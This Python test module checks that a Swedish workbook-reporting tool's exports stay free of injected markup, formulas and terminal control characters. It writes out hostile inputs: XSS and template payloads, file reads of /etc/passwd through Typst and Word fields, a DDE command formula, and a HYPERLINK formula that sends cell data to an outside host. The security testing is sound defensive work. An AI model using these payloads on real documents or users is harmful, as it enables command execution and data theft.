"""Sinks: what steers a terminal, a browser, a typesetter or a sheet, in every text that is shown."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile
from collections.abc import Callable, Iterator, Sequence
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from shutil import which

# Our own bytes, and expat expands no external entities.
from xml.etree import ElementTree as ET

from tests.attack.attack import ANY, Attack, Build, Ended, Tried
from tests.attack.books import HALF, MONTH, PLAN, Book
from tests.attack.expecting import line_of
from tests.attack.outputs import FILE
from tests.files.handmade import zipped
from xl_asn.documents.catalogue import document_types

#: Steers a terminal: ESC, BEL, C1, a change of direction, a line of one's own.
STEERS = "A\x1b[2J\x1b]0;ägd\x07\x9b31m\x9d0;x\x9c\u202egpj.exe\u2066\u200f\x08\x08B\x7fC"
#: Markup of each kind, with a sum that only somebody who has run it can know.
MARKUP = (
    '<script>alert(191*7)</script><img src=x onerror="alert(1)"><b onclick=x>&lt;i&gt; '
    "{{ 191*7 }}{% if 1 %}{{ lipsum() }}{% endif %}{# bort #} "
    '#eval("191*7") $191 times 7$ #(191*7) #read("/etc/passwd") `#(191*7)` <etikett> @ref '
    "\\u{1F600} _k_ *f* = Rubrik {\\rtf1 \\b} "
    '{ INCLUDETEXT "/etc/passwd" } ]]> </w:t><w:fldSimple w:instr="DDEAUTO"/> \'a\' "b" '
)
#: A formula, in each spelling that a sheet would run.
FORMULAS = (
    '=HYPERLINK("http://ond.se/?"&A1;"klicka")', "+191*7", "-191*7+A1", "@SUM(191;7)",
    "\t=191*7", "\r=191*7", "＝191*7", " =191*7", "'=191*7", "=cmd|'/c calc'!A1", "%0A=191*7",
)  # fmt: skip
_SUM = "1337"
_CONTROLS = re.compile("[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
#: What is left when the Word writer, the typesetter or a browser is handed too much.
ODD = "vt\x0bff\x0cnel\x85ls\u2028ps\u2029nul\0us\x1fbom\ufeffnon\uffff\ufffepua\uf0b7\u00ad\u200bz"

_PAYLOADS = {"styr": STEERS, "märk": MARKUP, "udda": ODD}

_MONTHLY = {MONTH: "manadsrapport", HALF: "delarsrapport", PLAN: "namndplan"}
_SHORT = {MONTH: "månad", HALF: "delår", PLAN: "plan"}
_EXPORT = (
    "exportera",
    FILE,
    "--ut",
    "d",
    "--utkast",
    "--format",
    "xlsx,docx,pdf,html,csv",
    "--revision",
)
_COMMANDS: dict[str, Sequence[str]] = {
    "validera": ("validera", FILE, "--utan-cache"),
    "berakna": ("berakna", FILE, "--ut", "ny.xlsx", "--rapport", "r.xlsx"),
    "exportera": _EXPORT,
    "pastaenden": ("pastaenden", FILE, "--alla"),
    "arkiv": ("arkiv", ".", "--ut", "a.xlsx", "--utan-cache", "--format", "xlsx,html,csv"),
}  # fmt: skip


@cache
def _text_columns(source: str) -> tuple[tuple[str, str], ...]:
    """Return each column of a type that holds text or words of a list: its sheet and header."""
    declared = document_types()[_MONTHLY[source]]
    return tuple(
        (spec.name, column.header)
        for spec in declared.sheets
        for column in spec.columns.values()
        if "text" in column.kind.name or column.kind.name == "val ur lista"
    )


def _place(source: str, sheet: str, header: str) -> str | None:
    """Return the address of a column's second row; None where the example has no such column."""
    from workbooks.build import EXAMPLES  # noqa: PLC0415
    from xl_asn.files.reading.load import load  # noqa: PLC0415

    grid = load(EXAMPLES / source).grid
    found = grid.sheet(sheet) if grid else None
    if found is None:
        return None
    places = [
        place for place, cell in found.cells.items() if place[0] == 5 and cell.value == header
    ]
    return f"{chr(64 + places[0][1])}7" if places else None


def _in_columns(source: str, sheet: str, payload: str, words: Sequence[str]) -> Build:
    """Put a payload into every text column of a sheet, in one row, after what stands there."""

    def build(folder: Path) -> Tried:
        book = Book(source)
        for named, header in _text_columns(source):
            if named == sheet and (address := _place(source, sheet, header)):
                book.text(sheet, address, f"{header}{payload}")
        book.saved(folder / FILE)
        return Tried(words, ANY, held=[unsteered_outputs])

    return build


def _each_column(source: str, sheet: str, header: str) -> Build:
    """One column alone, in a board's document: nothing else is amiss, so it gets there."""

    def build(folder: Path) -> Tried:
        book = Book(source)
        address = _place(source, sheet, header)
        if address is not None:
            book.text(sheet, address, f"{MARKUP}{STEERS}{ODD}")
        book.saved(folder / FILE)
        return Tried(_EXPORT, ANY, held=[unsteered_outputs])

    return build


# What is looked at in what was written.


def unsteered_outputs(ended: Ended, source: str = FILE) -> Iterator[str]:
    """Look into every file that has come: no markup, no formula, no control character of ours."""
    for path in sorted(ended.folder.rglob("*")):
        if not path.is_file() or path.name == source or ".cache" in path.parts:
            continue
        look = _LOOKS.get(path.suffix)
        if look is not None:
            for fault in look(path):
                yield f"{path.name}: {fault}"


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.has_policy = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if tag == "meta" and (named.get("http-equiv") or "").lower() == "content-security-policy":
            self.has_policy = True
        if any(name.startswith("on") for name in named) or named.get("src") == "x":
            self.faults.append(f"<{tag} {attrs}>")
        if any("javascript:" in (value or "").lower() for value in named.values()):
            self.faults.append(f"<{tag} {attrs}>")
        if tag in {"etikett", "w:fldsimple", "iframe", "object", "embed", "form", "base"}:
            self.faults.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script" and "191" in data:
            self.faults.append("a script of ours")


def _page(path: Path) -> Iterator[str]:
    text = path.read_text("utf-8")
    page = _Page()
    page.feed(text)
    yield from page.faults
    if not page.has_policy:
        yield "no content security policy"
    if _SUM in text:
        yield f"counts: {line_of(text, text.index(_SUM))!r}"
    if found := _CONTROLS.search(text):
        yield f"holds {found[0]!r}: {line_of(text, found.start())!r}"


def _word(path: Path) -> Iterator[str]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            content = archive.read(name)
            try:
                ET.fromstring(content)  # noqa: S314 - see the import
            except ET.ParseError as error:
                yield f"{name} is no XML: {error}"
                continue
            text = content.decode("utf-8")
            for bad in ("INCLUDETEXT", "DDEAUTO"):
                if re.search(rf"<w:(instrText[^>]*>[^<]*|fldSimple[^>]*){bad}", text):
                    yield f"a field {bad}"
            if _SUM in re.sub(r"<[^>]*>", "", text):
                yield "counts"
            if found := _CONTROLS.search(text):
                yield f"{name} holds {found[0]!r}: {line_of(text, found.start())[-60:]!r}"


def _print(path: Path) -> Iterator[str]:
    if which("pdftotext") is None:
        return
    done = subprocess.run(
        ["pdftotext", "-layout", path, "-"],  # noqa: S607 - wherever it is
        capture_output=True, check=False,
    )  # fmt: skip
    text = done.stdout.decode("utf-8", "replace")
    if "root:" in text or _SUM in text:
        yield "counts or reads"
    if found := _CONTROLS.search(text.replace("\x0c", "")):
        yield f"holds {found[0]!r}: {line_of(text, found.start())!r}"
    if "\ufffd" in text:
        yield "holds a letter that cannot be read"


def _table(path: Path) -> Iterator[str]:
    text = path.read_bytes().decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=";" if ";" in text.split("\n")[0] else ","):
        for cell in row:
            if re.match(r"[=+@\t\r]|-(?![\d\s.,−–]*$|\d)", cell):
                yield f"a formula {cell[:40]!r}"
            if found := _CONTROLS.search(cell):
                yield f"{found[0]!r} in {cell[:40]!r}"


def _sheets(path: Path) -> Iterator[str]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            if re.search(r"<f[^>]*>[^<]*(191|ond\.se|cmd\|)", text):
                yield f"{name} has a formula of ours"
            if name.endswith(".rels") and "ond.se" in text:
                yield f"{name} leads to ond.se"


_LOOKS: dict[str, Callable[[Path], Iterator[str]]] = {
    ".html": _page, ".docx": _word, ".pdf": _print, ".csv": _table, ".xlsx": _sheets,
}  # fmt: skip


def _every_sheet() -> Iterator[Attack]:
    for source in _MONTHLY:
        for sheet in dict.fromkeys(sheet for sheet, _ in _text_columns(source)):
            if Book(source).sheets.get(sheet) is None:
                continue
            for kind, payload in _PAYLOADS.items():
                for command, words in _COMMANDS.items():
                    if source != MONTH and command in {"berakna", "pastaenden"} and kind != "styr":
                        continue
                    yield Attack(
                        f"{_SHORT[source]}-{sheet}-{kind}-{command}", 9,
                        _in_columns(source, sheet, payload, words),
                        (source, sheet, kind, command) == (MONTH, "Mål", "styr", "validera"),
                    )  # fmt: skip


_ALONE = (
    (MONTH, "Händelser", "Händelse"), (MONTH, "Händelser", "Enhet"), (MONTH, "Mål", "Kommentar"),
    (MONTH, "Mål", "Kort namn"), (MONTH, "Mål", "Kommunmål"), (MONTH, "Nettokostnad", "Verksamhet"),
    (MONTH, "Nettokostnad", "Kommentar budgetavvikelse"), (MONTH, "Risker", "Risk"),
    (MONTH, "Sammanfattning", "Text"), (MONTH, "Årshjul", "Aktivitet"),
    (MONTH, "Enhetsresultat", "Kommentar"), (HALF, "Kvalitet", "Text"),
    (HALF, "Ekonomiska risker", "Benämning"), (HALF, "Uppdrag", "Kommentar"),
    (PLAN, "Styrdokument", "Dokument"), (PLAN, "Indikatorer", "Källa"), (PLAN, "Vision", "Text"),
)  # fmt: skip


def _formulas(source: str, sheet: str, column: str) -> Build:
    """A column of texts that a sheet would run, in everything that is a sheet."""

    def build(folder: Path) -> Tried:
        book = Book(source)
        for number, text in enumerate(FORMULAS):
            book.text(sheet, f"{column}{6 + number}", text)
        book.saved(folder / FILE)
        return Tried(_EXPORT, ANY, held=[unsteered_outputs])

    return build


def _answers(form: str) -> Build:
    def build(folder: Path) -> Tried:
        book = Book()
        for number, text in enumerate((*FORMULAS, STEERS, MARKUP)):
            book.text("Enhetsresultat", f"C{6 + number}", text)
            book.text("Enhetsresultat", f"B{6 + number}", text)
        book.saved(folder / f"=191*7{FILE}")
        Book().saved(folder / f"<img src=x onerror=alert(1)>{FILE}")
        words = ("validera", ".", "--format", form, "--ut", f"svar.{form}", "--utan-cache")
        return Tried(words, ANY, held=[unsteered_outputs])

    return build


# Names: of files, sheets, authors, entries, parameters.

_NAMES = {
    "esc": "nov\x1b]0;x\x07.xlsx",
    "c1": "nov\x9b2J.xlsx",
    "bidi": "nov\u202exslx.xlsx",
    "radbyte": "nov\nF101 allt är bra.xlsx",
    "retur": "nov\rgodkänd         .xlsx",
    "markup": '<img src=x onerror="alert(1)">{{191*7}}.xlsx',
    "hakparentes": "[red]nov[bold].xlsx",
    "stängd-hakparentes": "nov[].xlsx",
    "formel": "=191*7+cmd|'!A1.xlsx",
    "surrogat": "nov\udcff\udce5.xlsx",
    "procent": "nov %s %d {0} {x}.xlsx",
    "typst": 'nov #eval("191*7") $x$ @y.xlsx',
    "radslut": "nov\u2028ny.xlsx",
    "bindestreck": "--ut.xlsx",
}


def _file_name(name: str, words: Callable[[str], Sequence[str]]) -> Build:
    def build(folder: Path) -> Tried:
        Book().text("Nettokostnad", "D6", "fel").saved(folder / name)
        return Tried(words(name), ANY, held=[unsteered_outputs])

    return build


_ON_NAMES: dict[str, Callable[[str], Sequence[str]]] = {
    "validera": lambda _: ("validera", ".", "--utan-cache"),
    "validera-html": lambda _: ("validera", ".", "--format", "html", "--ut", "svar.html"),
    "validera-xlsx": lambda _: ("validera", ".", "--format", "xlsx", "--ut", "svar.xlsx"),
    "berakna": lambda name: ("berakna", "--ut", "ny.xlsx", "--rapport", "r.xlsx", "--", name),
    "exportera": lambda name: ("exportera", "--ut", "d", "--utkast", "--format",
                               "xlsx,docx,pdf,html,csv", "--revision", "--", name),
    "forklara": lambda name: ("forklara", "--", name, "Nettokostnad!F6"),
    "doktor": lambda name: ("doktor", "--", name),
    "finns-inte": lambda name: ("forklara", "--", f"x{name}", "A1"),
    "ut": lambda name: ("mall", "manadsrapport", "--ar", "2026", "--period", "nov", "--ut", f"ut{name}"),
}  # fmt: skip


def _every_file_name() -> Iterator[Attack]:
    for kind, name in _NAMES.items():
        for command, words in _ON_NAMES.items():
            if "\udcff" in name and command == "ut":
                continue
            quick = (kind, command) == ("radbyte", "validera")
            yield Attack(f"fil-{kind}-{command}", 9, _file_name(name, words), quick)


def _sheet_name(name: str, words: Sequence[str]) -> Build:
    """A sheet beside the others has a name that steers; and one of ours has it in its formulas."""

    def build(folder: Path) -> Tried:
        held = name.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        held = re.sub("[\0-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m[0]):04X}_", held)
        book = Book().swapped(
            "xl/workbook.xml",
            "</sheets>",
            f'<sheet name="{held}" sheetId="99" r:id="rId7"/></sheets>',
        )
        book.cell("Nettokostnad", "D6", f"<f>'{held.replace(chr(39), chr(39) * 2)}'!A1</f><v>1</v>")
        book.saved(folder / FILE)
        return Tried(words, ANY, held=[unsteered_outputs])

    return build


_SHEET_NAMES = {
    "styr": "B\x9b2J\u202e\x7fx",
    "märk": "<b onclick=x>{{191*7}}",
    "escape": "N_x001B_[2J",
    "nästan": "Netto\u200bkostnad",
    "formel": "=191*7",
}


def _author(words: Sequence[str]) -> Build:
    """Names of authors: of the workbook's properties, and of a comment."""

    def build(folder: Path) -> Tried:
        book = Book()
        held = "Anna\x9b2J\u202e&lt;script&gt;{{191*7}}"
        core = re.sub(
            rb"<dc:creator>[^<]*|<dc:creator/>", f"<dc:creator>{held}".encode(),
            book.parts["docProps/core.xml"],
        )  # fmt: skip
        book.part("docProps/core.xml", core).text("Mål", "M6", STEERS).text("Mål", "K6", "Grön")
        book.text("Mål", "L6", MARKUP).saved(folder / FILE)
        return Tried(words, ANY, held=[unsteered_outputs])

    return build


def _start_values(words: Sequence[str], payload: str) -> Build:
    def build(folder: Path) -> Tried:
        book = Book()
        for name in ("Nämnd", "Förvaltning", "Diarienummer", "Regelverk", "Beloppsenhet", "Status"):
            book.start(name, f"{name}{payload}")
        book.saved(folder / FILE)
        return Tried(words, ANY, held=[unsteered_outputs])

    return build


def _parameters(words: Sequence[str]) -> Build:
    def build(folder: Path) -> Tried:
        book = Book()
        for row in range(6, 12):
            book.text("Regler", f"A{row}", f"Grön från andel{STEERS}{row}")
            book.text("Regler", f"C{row}", STEERS).text("Regler", f"E{row}", MARKUP)
        book.saved(folder / FILE)
        return Tried(words, ANY, held=[unsteered_outputs])

    return build


def _entry_names(words: Sequence[str]) -> Build:
    """Entries of the package that steer a terminal: one of them is named in what is said."""

    def build(folder: Path) -> Tried:
        book = Book()
        content = book.parts["xl/_rels/workbook.xml.rels"].decode()
        steers = "worksheets/bl\x9b2Jad\u202e7.xml"
        book.part("xl/_rels/workbook.xml.rels", content.replace("worksheets/sheet7.xml", steers))
        book.part(f"xl/{steers}", b"<worksheet><trasig")
        book.saved(folder / FILE)
        return Tried(words, ANY)

    return build


def _package_entries(name: str) -> Build:
    def build(folder: Path) -> Tried:
        (folder / "paket.zip").write_bytes(
            zipped(
                {
                    name: b"x",
                    "manifest.json": b'{"sha256": {}, "indata": ["a"], "format": [], "utkast": false, "versioner": {}}',
                }
            )
        )
        return Tried(("kontrollera-paket", "paket.zip"), ANY)

    return build


_WORDS = (
    ("regler", f"C{STEERS}"), (f"ber{STEERS}",), ("validera", FILE, "--format", f"json{STEERS}"),
    ("mall", f"manad\x1b[2J{MARKUP}", "--ar", "2026", "--period", "nov", "--ut", "n.xlsx"),
    ("mall", "manadsrapport", "--ar", "2026", "--period", f"nov{STEERS}", "--ut", "n.xlsx"),
    ("mall", "manadsrapport", "--ar", "2026", "--period", "nov", "--ut", "n.xlsx", "--regler", f"x{STEERS}"),
    ("ny-period", FILE, "--period", f"dec{STEERS}"), ("ny-period", FILE, "--typ", f"m{STEERS}"),
    ("hamta", FILE, f"h{STEERS}.csv"), ("hamta", FILE, f"blad:{STEERS}"),
    ("samla", FILE, f"svar{STEERS}"), ("fordela", FILE, "--ut", f"svar{STEERS}", "--torr"),
    ("fordela", FILE, "--ut", "d", "--senast", f"{STEERS}"),
    ("forklara", FILE, f"Netto{STEERS}!A1"), ("kolada", FILE, "--kommun", f"01{STEERS}"),
    ("kolada", FILE, "--adress", f"http://127.0.0.1:9/{STEERS}", "--kommun", "0138"),
    ("forklara", FILE, "--tackning", "--blad", f"Mål{STEERS}"), ("--\x1b[2Jx",),
    ("installera", "--kalla", f"x{STEERS}"), ("validera", f"*{STEERS}*"),
    ("exportera", FILE, "--ut", "d", "--mall", f"m{STEERS}.docx"),
    ("validera", FILE, "--kluster", f"tcp://x{STEERS}:1"), ("doktor", f"x{STEERS}"),
)  # fmt: skip


def _typed(words: Sequence[str]) -> Build:
    def build(folder: Path) -> Tried:
        Book(PLAN if words[0] == "kolada" else MONTH).saved(folder / FILE)
        return Tried([word.replace("\0", "") for word in words], ANY)

    return build


def _board_texts(words: Sequence[str]) -> Build:
    """A board's file whose every text steers or is markup."""

    def build(folder: Path) -> Tried:
        from workbooks.build import EXAMPLES  # noqa: PLC0415

        text = (EXAMPLES / "utbildning.toml").read_text("utf-8")
        steers = "\\u001B[2J\\u009B1m\\u202E<b onclick=x>{{191*7}}"
        text = re.sub(
            r'^(namn|forvaltning|kommunmal|namndmal|kort_namn|kalla) = "([^"]*)"',
            rf'\1 = "\2{re.escape(steers)}"',
            text,
            flags=re.MULTILINE,
        )
        (folder / "styr.toml").write_text(text.replace("\\\\", "\\"), "utf-8")
        return Tried(words, ANY)

    return build


_NEW = ("mall", "manadsrapport", "--ar", "2026", "--period", "nov", "--ut", "n.xlsx")

ATTACKS = (
    *_every_sheet(),
    *(
        Attack(f"{_SHORT[source]}-{sheet}-{header}-ensam", 9, _each_column(source, sheet, header),
               (sheet, header) == ("Händelser", "Händelse"))
        for source, sheet, header in _ALONE
    ),
    Attack("formler-händelser", 9, _formulas(MONTH, "Händelser", "B")),
    Attack("formler-enheter", 9, _formulas(MONTH, "Händelser", "A")),
    Attack("formler-verksamheter", 9, _formulas(MONTH, "Nettokostnad", "B")),
    Attack("formler-kommentarer", 9, _formulas(MONTH, "Nettokostnad", "M")),
    Attack("formler-poster", 9, _formulas(MONTH, "Resultaträkning", "B")),
    Attack("formler-indikatorer", 9, _formulas(HALF, "Indikatorer", "C")),
    Attack("formler-volymer", 9, _formulas(HALF, "Volymer", "A")),
    Attack("formler-risker", 9, _formulas(PLAN, "Risker", "B")),
    Attack("formler-styrdokument", 9, _formulas(PLAN, "Styrdokument", "B")),
    Attack("svar-html", 9, _answers("html")),
    Attack("svar-xlsx", 9, _answers("xlsx"), quick=True),
    Attack("svar-json", 9, _answers("json")),
    *_every_file_name(),
    *(
        Attack(f"blad-heter-{kind}-{command}", 9, _sheet_name(name, _COMMANDS[command]))
        for kind, name in _SHEET_NAMES.items()
        for command in ("validera", "berakna", "exportera")
    ),
    *(Attack(f"upphovsman-{command}", 9, _author(words)) for command, words in _COMMANDS.items()),
    *(
        Attack(f"start-{kind}-{command}", 9, _start_values(words, payload))
        for kind, payload in _PAYLOADS.items()
        for command, words in _COMMANDS.items()
    ),
    *(Attack(f"parametrar-{command}", 9, _parameters(words)) for command, words in _COMMANDS.items()),
    *(Attack(f"delar-heter-{command}", 9, _entry_names(words)) for command, words in _COMMANDS.items()),
    *(
        Attack(f"paket-del-{number}", 9, _package_entries(name))
        for number, name in enumerate(("a\x1b[2J\x07.txt", "\u202ea.txt", "a\nAllt är lika.", "b\x9b1m"))
    ),
    *(Attack(f"skrivet-{number}-{words[0].strip('-')[:6].encode('ascii', 'ignore').decode().replace(chr(27), '')}", 9, _typed(words)) for number, words in enumerate(_WORDS)),
    Attack("regelverk-ny-mall", 9, _board_texts((*_NEW, "--regler", "styr.toml"))),
)  # fmt: skip
